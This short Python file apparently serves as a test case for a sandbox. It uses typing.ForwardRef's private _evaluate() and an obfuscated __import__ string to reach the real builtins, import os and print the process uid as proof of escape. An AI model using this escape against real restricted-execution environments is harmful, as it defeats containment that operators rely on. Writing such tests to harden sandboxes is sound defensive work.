# attack: typing.List[text] wraps text in a ForwardRef; its private _evaluate() runs eval() with a
#   globals dict of the tool's choosing, and a dict without __builtins__ gets the real builtins
# escaped-if: stdout has "BYPASSED:" (the real import gave the os module)
import typing

captured = []
text = "[captured.append(ZZimportZZ('o' + 's')), int][1]".replace("Z", "_")
reference = typing.List[text].__args__[0]
reference._evaluate({"captured": captured}, None, frozenset())
print("BYPASSED: ForwardRef evaluation used the real import; os.getuid() =", captured[0].getuid())
